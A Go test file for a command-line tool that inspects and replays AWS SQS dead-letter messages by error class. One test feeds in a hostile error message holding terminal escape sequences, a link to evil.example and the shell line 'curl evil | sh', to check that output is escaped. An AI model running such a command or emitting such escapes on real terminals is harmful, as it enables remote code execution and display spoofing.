package main

import (
	"context"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sqs/types"

	"github.com/homingdlq/homing/batch"
	"github.com/homingdlq/homing/internal/browse"
	"github.com/homingdlq/homing/internal/record"
	"github.com/homingdlq/homing/replay"
)

// ids returns the message id of each message of url by its business key
// (orderId), leaving the messages visible.
func (f *fixture) ids(url string) map[string]string {
	f.t.Helper()
	out := map[string]string{}
	_, err := browse.All(context.Background(), f.q, url, browse.Options{Hide: 5}, func(m types.Message) bool {
		body := aws.ToString(m.Body)
		id := body[strings.Index(body, `"orderId":"`)+len(`"orderId":"`):]
		out[id[:strings.Index(id, `"`)]] = aws.ToString(m.MessageId)
		return false
	})
	if err != nil {
		f.t.Fatal(err)
	}
	return out
}

// failure is a failure record of the lane's consumer (invoice).
func (f *fixture) failure(id, class, message string, failures int, first, last time.Time) {
	f.items.fail("invoice", batch.Failure{MessageID: id, Class: class, Message: message, Failures: failures, FirstAt: first, LastAt: last})
}

func TestByClass(t *testing.T) {
	at := time.Date(2026, 12, 3, 9, 12, 0, 0, time.UTC)
	view := func(class string, first time.Time) *failureView { return &failureView{Class: class, FirstAt: first} }
	tests := []struct {
		name  string
		views []*failureView
		want  string // class:messages:oldest
		line  string
	}{
		{"none", nil, "", ""},
		{"most first, unknown last, the oldest of each",
			[]*failureView{nil, view("panic", at.Add(time.Hour)), view("http-503", at.Add(time.Minute)), nil, view("http-503", at), view("http-503", at.Add(2*time.Minute))},
			"http-503:3:09:12 panic:1:10:12 unknown:2:-", "3 http-503 since 09:12, 1 panic since 10:12, 2 unknown"},
		{"ties by class", []*failureView{view("timeout", at), view("blocked", at)}, "blocked:1:09:12 timeout:1:09:12", "1 blocked since 09:12, 1 timeout since 09:12"},
		{"unknown alone", []*failureView{nil, nil}, "unknown:2:-", "2 unknown"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			counts := byClass(tt.views)
			var got []string
			for _, c := range counts {
				oldest := "-"
				if !c.OldestFailedAt.IsZero() {
					oldest = c.OldestFailedAt.Format("15:04")
				}
				got = append(got, fmt.Sprintf("%s:%d:%s", c.Class, c.Messages, oldest))
			}
			if s := strings.Join(got, " "); s != tt.want {
				t.Errorf("byClass = %q, want %q", s, tt.want)
			}
			if line := classLine(counts, at.Add(3*time.Hour)); line != tt.line {
				t.Errorf("classLine = %q, want %q", line, tt.line)
			}
		})
	}
	if got := since(at, at.Add(24*time.Hour)); got != "3 Dec 09:12" {
		t.Errorf("since of yesterday = %q", got)
	}
}

func TestJoinFailures(t *testing.T) {
	t0 := time.Date(2026, 12, 3, 9, 0, 0, 0, time.UTC)
	own := batch.Failure{MessageID: "dl-2", Class: "http-503", Message: "latest", Failures: 3, FirstAt: t0.Add(time.Hour), LastAt: t0.Add(2 * time.Hour)}
	orig := batch.Failure{MessageID: "m-1", Class: "timeout", Message: "first", Failures: 3, FirstAt: t0, LastAt: t0.Add(time.Minute)}
	tests := []struct {
		name            string
		hasOwn, hasOrig bool
		want            *failureView
	}{
		{"neither", false, false, nil},
		{"own only", true, false, &failureView{Class: "http-503", Message: "latest", Failures: 3, Replays: 1, FirstAt: own.FirstAt, LastAt: own.LastAt}},
		{"both: the latest's class, the first's first failure", true, true,
			&failureView{Class: "http-503", Message: "latest", Failures: 3, Replays: 1, FirstAt: t0, LastAt: own.LastAt, Original: true}},
		{"original only", false, true, &failureView{Class: "timeout", Message: "first", Failures: 3, Replays: 1, FirstAt: t0, LastAt: orig.LastAt, Original: true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := joinFailures(own, tt.hasOwn, orig, tt.hasOrig, 1)
			if (got == nil) != (tt.want == nil) || got != nil && *got != *tt.want {
				t.Fatalf("joinFailures = %+v, want %+v", got, tt.want)
			}
		})
	}
}

// inspect counts the sample by error class: a dead letter's own record,
// a replayed one's first failure through its verified original id, never
// through a forged one; messages without a record are "unknown".
func TestInspectByErrorClass(t *testing.T) {
	f := newFixture(t)
	t0 := f.clock.Now()
	for i := range 4 {
		f.send(f.dlq, order(fmt.Sprintf("ORD-%d", i)), nil, nil)
	}
	f.send(f.dlq, order("ORD-REPLAYED"), &replay.Metadata{ReplayCount: 1, OriginalMessageID: "m-first", FirstDeadLetteredAt: t0}, nil)
	f.forged(f.dlq, order("ORD-FORGED"))
	f.send(f.dlq, order("ORD-NONE"), nil, nil)
	ids := f.ids(f.dlq)
	f.clock.Advance(3 * time.Hour)
	for i := range 3 {
		f.failure(ids[fmt.Sprintf("ORD-%d", i)], "http-503", "downstream answered 503", 3, t0.Add(time.Duration(i)*time.Minute), t0.Add(time.Hour))
	}
	f.failure(ids["ORD-3"], "panic", "runtime error: index out of range", 1, t0.Add(2*time.Hour), t0.Add(2*time.Hour))
	f.failure(ids["ORD-REPLAYED"], "http-503", "downstream answered 503", 3, t0.Add(2*time.Hour), t0.Add(2*time.Hour))
	f.failure("m-first", "timeout", "context deadline exceeded", 3, t0.Add(-time.Hour), t0)
	f.failure("m-forged", "forged-class", "not to be read", 3, t0.Add(-5*time.Hour), t0)

	r := f.run("--json", "inspect")
	r.want(t, exitOK)
	rep := decode[inspectReport](t, r)
	want := []classCount{
		{Class: "http-503", Messages: 4, OldestFailedAt: t0.Add(-time.Hour)}, // the replayed one's first failure
		{Class: "panic", Messages: 1, OldestFailedAt: t0.Add(2 * time.Hour)},
		{Class: "unknown", Messages: 2},
	}
	if got := rep.Sample.ByClass; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("byClass = %+v, want %+v", got, want)
	}
	if fr := rep.FailureRecords; !fr.Read || fr.Found != 5 || fr.Detail != "" {
		t.Fatalf("failureRecords = %+v", fr)
	}
	if n := len(f.items.batchGets); n != 1 || len(f.items.batchGets[0]) != 8 { // 7 own ids and one verified original
		t.Fatalf("BatchGetItems %v, want one of 8 keys", f.items.batchGets)
	}
	for _, k := range f.items.batchGets[0] {
		if strings.Contains(k, "m-forged") {
			t.Fatalf("read the record of a forged original id: %v", f.items.batchGets[0])
		}
	}
	for _, field := range []string{`"byClass"`, `"class"`, `"messages"`, `"oldestFailedAt"`, `"failureRecords"`, `"read"`, `"found"`} {
		if !strings.Contains(r.stdout, field) {
			t.Errorf("JSON lacks %s", field)
		}
	}

	r = f.run("inspect")
	r.want(t, exitOK)
	for _, line := range []string{
		// The fixture's clock is the wall clock's: its day may turn (since has its own test).
		"By error class: 4 http-503 since " + since(t0.Add(-time.Hour), f.clock.Now()) + ", 1 panic since " + since(t0.Add(2*time.Hour), f.clock.Now()) + ", 2 unknown.",
		"ERROR CLASS  MESSAGES  OLDEST FIRST FAILURE",
		"http-503     4         " + t0.Add(-time.Hour).Format(time.RFC3339) + " (4h0m ago)",
		"unknown      2         no failure record",
	} {
		if !strings.Contains(r.stdout, line) {
			t.Errorf("table lacks %q:\n%s", line, r.stdout)
		}
	}
}

// One BatchGetItem per 100 sampled ids.
func TestInspectReadsRecordsInHundreds(t *testing.T) {
	f := newFixture(t)
	for i := range 150 {
		f.send(f.dlq, order(fmt.Sprintf("ORD-%d", i)), nil, nil)
	}
	for _, id := range f.ids(f.dlq) {
		f.failure(id, "http-503", "503", 3, f.clock.Now(), f.clock.Now())
	}
	r := f.run("--json", "inspect", "--sample", "150")
	r.want(t, exitOK)
	if got := decode[inspectReport](t, r).Sample.ByClass; len(got) != 1 || got[0].Messages != 150 {
		t.Fatalf("byClass = %+v", got)
	}
	if n := len(f.items.batchGets); n != 2 || len(f.items.batchGets[0])+len(f.items.batchGets[1]) != 150 || len(f.items.batchGets[0]) > 100 {
		t.Fatalf("%d BatchGetItems, want 2 of at most 100 keys", n)
	}
}

// A lane without failure records (FAILURE_RECORDS=off, an older consumer),
// without an idempotency table, or whose records cannot be read still
// inspects and peeks, and says why there are no classes.
func TestNoFailureRecords(t *testing.T) {
	tests := []struct {
		name   string
		setup  func(f *fixture)
		read   bool
		detail string
	}{
		{"the consumer writes none", func(*fixture) {}, true, "no failure records for these messages: the lane's consumer writes none (FAILURE_RECORDS=off, or a consumer older than failure records), or they expired"},
		{"no idempotency table", func(f *fixture) { f.outputs[outIdempotency] = ""; f.writeOutputs() }, false,
			"failure records not read: the lane names no idempotency table (its output, or --idempotency-table), where its consumer writes them"},
		{"no consumer name", func(f *fixture) { delete(f.env, "CONSUMER_NAME") }, false, "failure records not read: no consumer name"},
		{"a read that fails", func(f *fixture) { f.items.batchGetErr = errors.New("AccessDeniedException: no") }, false, "failure records not read: read failure records from idempotency: AccessDeniedException: no"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			f.deadLetters()
			tt.setup(f)
			r := f.run("--json", "inspect")
			r.want(t, exitOK)
			rep := decode[inspectReport](t, r)
			if fr := rep.FailureRecords; fr.Read != tt.read || fr.Found != 0 || !strings.HasPrefix(fr.Detail, tt.detail) {
				t.Fatalf("failureRecords = %+v, want read %t, %q", fr, tt.read, tt.detail)
			}
			if got := rep.Sample.ByClass; len(got) != 1 || got[0] != (classCount{Class: "unknown", Messages: 3}) {
				t.Fatalf("byClass = %+v", got)
			}
			r = f.run("inspect")
			r.want(t, exitOK)
			if !strings.Contains(r.stdout, "Error classes: "+tt.detail) || strings.Contains(r.stdout, "ERROR CLASS") {
				t.Fatalf("table:\n%s", r.stdout)
			}
			r = f.run("--json", "peek")
			r.want(t, exitOK)
			p := decode[peekReport](t, r)
			if !strings.HasPrefix(p.FailureRecords.Detail, tt.detail) || len(p.Messages) != 3 || p.Messages[0].Failure != nil {
				t.Fatalf("peek = %+v", p)
			}
			r = f.run("peek")
			r.want(t, exitOK)
			if !strings.Contains(r.stdout, "Failure records: "+tt.detail) {
				t.Fatalf("peek table:\n%s", r.stdout)
			}
		})
	}
}

// The invalid queue's messages did not fail: no records are read.
func TestInvalidQueueHasNoFailures(t *testing.T) {
	f := newFixture(t)
	f.send(f.invalid, order("ORD-1"), nil, nil)
	r := f.run("--json", "inspect", "--queue", "invalid")
	r.want(t, exitOK)
	rep := decode[inspectReport](t, r)
	if len(rep.Sample.ByClass) != 0 || rep.FailureRecords.Read || !strings.Contains(rep.FailureRecords.Detail, "the invalid queue has no failure records") || len(f.items.batchGets) != 0 {
		t.Fatalf("report = %+v, %d BatchGetItems", rep, len(f.items.batchGets))
	}
}

// peek shows each message's class, message, failures and times; a
// hostile error message (escapes, new lines, a long text) is shown
// escaped and cut, whole but escaped in JSON.
func TestPeekFailures(t *testing.T) {
	f := newFixture(t)
	t0 := f.clock.Now()
	f.send(f.dlq, order("ORD-1"), nil, nil)
	f.send(f.dlq, order("ORD-2"), &replay.Metadata{ReplayCount: 2, OriginalMessageID: "m-2", FirstDeadLetteredAt: t0}, nil)
	f.send(f.dlq, order("ORD-3"), nil, nil)
	ids := f.ids(f.dlq)
	hostile := "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\x1b[2J\nrun: curl evil | sh " + strings.Repeat("x", 600)
	f.failure(ids["ORD-1"], "http-503", hostile, 3, t0, t0.Add(time.Minute))
	f.failure(ids["ORD-2"], "http-503", "downstream answered 503", 3, t0.Add(time.Hour), t0.Add(time.Hour+time.Minute))
	f.failure("m-2", "timeout", "context deadline exceeded", 3, t0.Add(-time.Hour), t0)
	f.clock.Advance(2 * time.Hour)

	r := f.run("--json", "peek")
	r.want(t, exitOK)
	byOrder := map[string]peekedMessage{}
	for _, m := range decode[peekReport](t, r).Messages {
		byOrder[m.Key] = m
	}
	m1 := byOrder["ORD-1"].Failure
	if m1 == nil || m1.Class != "http-503" || m1.Failures != 3 || m1.Replays != 0 || !m1.FirstAt.Equal(t0) || !m1.LastAt.Equal(t0.Add(time.Minute)) || m1.Original {
		t.Fatalf("ORD-1 failure = %+v", m1)
	}
	// Stored cut to 512 bytes; an escape shows a byte in at most 4.
	if strings.ContainsAny(m1.Message, "\x1b\x07\n") || len(m1.Message) > 4*515 || !strings.HasPrefix(m1.Message, `\x1b]8;;http://evil.example/\x07click`) {
		t.Fatalf("ORD-1 message not bounded and escaped: %q", m1.Message)
	}
	if m2 := byOrder["ORD-2"].Failure; m2 == nil || m2.Class != "http-503" || m2.Replays != 2 || !m2.FirstAt.Equal(t0.Add(-time.Hour)) || !m2.Original {
		t.Fatalf("ORD-2 failure = %+v", m2)
	}
	if m3 := byOrder["ORD-3"].Failure; m3 != nil {
		t.Fatalf("ORD-3 failure = %+v, want none", m3)
	}
	for _, field := range []string{`"failure"`, `"class"`, `"failures"`, `"replays"`, `"firstFailedAt"`, `"lastFailedAt"`, `"original"`, `"failureRecords"`} {
		if !strings.Contains(r.stdout, field) {
			t.Errorf("JSON lacks %s", field)
		}
	}

	r = f.run("peek", "--width", "40")
	r.want(t, exitOK)
	if strings.ContainsAny(r.stdout, "\x1b\x07") || strings.Contains(r.stdout, "\nrun: curl") {
		t.Fatalf("peek printed the hostile text raw:\n%q", r.stdout)
	}
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`failed +http-503: \\x1b\]8;;http://evil\.example/\\x07click[^\n]*…\n`),
		regexp.MustCompile(`failures +3 in its latest round; first ` + regexp.QuoteMeta(t0.Format(time.RFC3339)) + ` \(2h0m ago\), last`),
		regexp.MustCompile(`failures +3 in its latest round, after 2 replay\(s\); first ` + regexp.QuoteMeta(t0.Add(-time.Hour).Format(time.RFC3339))),
		regexp.MustCompile(`failed +no failure record \(class unknown\)`),
	} {
		if !want.MatchString(r.stdout) {
			t.Errorf("peek table does not match %s:\n%s", want, r.stdout)
		}
	}
}

// audit --key shows the failures of the key's messages, read by the ids
// and original ids of its ledger history, beside that history.
func TestAuditKeyShowsFailures(t *testing.T) {
	f := newFixture(t)
	t0 := f.clock.Now()
	hk := record.HistoryKey("ORD-1", "")
	for _, r := range []record.Message{
		{HistoryKey: hk, MessageID: "m-1", OriginalMessageID: "m-1", State: record.Seen, Route: "orders", FirstSeenAt: t0, At: t0, ExpiresAt: t0.Add(time.Hour)},
		{HistoryKey: hk, MessageID: "dl-2", OriginalMessageID: "m-1", State: record.Seen, Route: "orders", FirstSeenAt: t0.Add(time.Hour), At: t0.Add(time.Hour), ExpiresAt: t0.Add(2 * time.Hour)},
	} {
		if _, _, err := f.ledger.Mark(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	f.failure("m-1", "timeout", "context deadline exceeded", 3, t0.Add(-10*time.Minute), t0.Add(-time.Minute))
	f.failure("dl-2", "http-503", "downstream\x1b[31m answered 503", 3, t0.Add(30*time.Minute), t0.Add(50*time.Minute))

	r := f.run("--json", "audit", "--key", "ORD-1")
	r.want(t, exitOK)
	a := decode[keyAudit](t, r)
	if len(a.Failures) != 2 || a.Failures[0].MessageID != "m-1" || a.Failures[0].Class != "timeout" || a.Failures[1].Class != "http-503" || a.FailureRecords.Found != 2 {
		t.Fatalf("failures = %+v (%+v)", a.Failures, a.FailureRecords)
	}
	for _, field := range []string{`"failures"`, `"messageId"`, `"class"`, `"firstFailedAt"`, `"lastFailedAt"`, `"failureRecords"`} {
		if !strings.Contains(r.stdout, field) {
			t.Errorf("JSON lacks %s", field)
		}
	}
	r = f.run("audit", "--key", "ORD-1")
	r.want(t, exitOK)
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`FAILED MESSAGE +CLASS +FAILURES +FIRST +LAST +MESSAGE`),
		regexp.MustCompile(`m-1 +timeout +3 +` + regexp.QuoteMeta(t0.Add(-10*time.Minute).Format(time.RFC3339)) + ` .* context deadline exceeded`),
		regexp.MustCompile(`dl-2 +http-503 +3 .* downstream\\x1b\[31m answered 503`),
	} {
		if !want.MatchString(r.stdout) {
			t.Errorf("audit table does not match %s:\n%s", want, r.stdout)
		}
	}

	// A key without records says so.
	clear(f.items.items)
	r = f.run("audit", "--key", "ORD-1")
	r.want(t, exitOK)
	if !strings.Contains(r.stdout, "Failures: no failure records for these messages") {
		t.Fatalf("audit table:\n%s", r.stdout)
	}
}

// replay --error replays the messages of one error class (or several): a
// dry run shows what it would move, a run moves them and nothing else, a
// class with no messages moves nothing; the engine reads the records.
func TestReplayByErrorClass(t *testing.T) {
	f := newFixture(t)
	f.deadLetters()
	ids := f.ids(f.dlq)
	t0 := f.clock.Now().Add(-time.Hour)
	f.failure(ids["ORD-1"], "http-503", "downstream answered 503", 3, t0, t0)
	f.failure(ids["ORD-2"], "panic", "runtime error", 3, t0, t0)
	f.forget()

	r := f.run("--json", "replay", "--dry-run", "--error", "http-503")
	r.want(t, exitOK)
	s := decode[replay.Summary](t, r)
	if !s.DryRun || s.Total.Replayed != 1 || s.Total.Skipped != 2 || s.Filter == nil || !slices.Equal(s.Filter.ErrorClasses, []string{"http-503"}) {
		t.Fatalf("dry run = %+v", s)
	}
	if !strings.Contains(r.stdout, `"errorClasses": [`) || f.visible(f.source) != 0 || f.visible(f.dlq) != 3 || len(f.items.batchGets) == 0 {
		t.Fatalf("a dry run moved something, or read no records:\n%s", r.stdout)
	}
	r = f.run("replay", "--dry-run", "--error", "timeout")
	r.want(t, exitOK)
	if !strings.Contains(r.stdout, "Replay dry run (nothing moved, nothing written)") || !strings.Contains(r.stdout, "filter error class timeout") ||
		!regexp.MustCompile(`orders +3 +3 +0 +0 +0 +3 `).MatchString(r.stdout) {
		t.Fatalf("dry run of a class without messages:\n%s", r.stdout)
	}
	// Two classes, as a comma list and repeated; "unknown" is the one
	// without a record.
	r = f.run("--json", "replay", "--dry-run", "--error", "panic,unknown", "--error", "http-503")
	r.want(t, exitOK)
	if s := decode[replay.Summary](t, r); s.Total.Replayed != 3 || !slices.Equal(s.Filter.ErrorClasses, []string{"panic", "unknown", "http-503"}) {
		t.Fatalf("dry run of three classes = %+v", s)
	}

	r = f.run("--json", "replay", "--error", "http-503", "--yes")
	r.want(t, exitOK)
	if s := decode[replay.Summary](t, r); s.Total.Replayed != 1 || f.visible(f.source) != 1 || f.visible(f.dlq) != 2 {
		t.Fatalf("run = %+v; source %d, DLQ %d", s, f.visible(f.source), f.visible(f.dlq))
	}
}

// --error takes error classes only, checked before any AWS call.
func TestReplayErrorFlagChecked(t *testing.T) {
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"--error", "HTTP 503"}, `--error "HTTP 503": want an error class, 1..64 bytes of a-z, 0-9 and -`},
		{[]string{"--error", "a,,b"}, `--error "": want an error class`},
		{[]string{"--error", strings.Repeat("x", 65)}, "want an error class"},
		{[]string{"--error", "\x1b[2Jx"}, `--error "\x1b[2Jx"`},
	} {
		t.Run(tt.want, func(t *testing.T) {
			f := newFixture(t)
			f.noAWS = true
			f.run(append([]string{"replay", "--dry-run"}, tt.args...)...).want(t, exitUsage, tt.want)
		})
	}
	f := newFixture(t)
	f.noAWS = true
	many := make([]string, replay.MaxFilterValues+1)
	for i := range many {
		many[i] = fmt.Sprintf("c%d", i)
	}
	f.run("replay", "--dry-run", "--error", strings.Join(many, ",")).want(t, exitUsage, fmt.Sprintf("--error: %d classes, want at most %d", len(many), replay.MaxFilterValues))
}
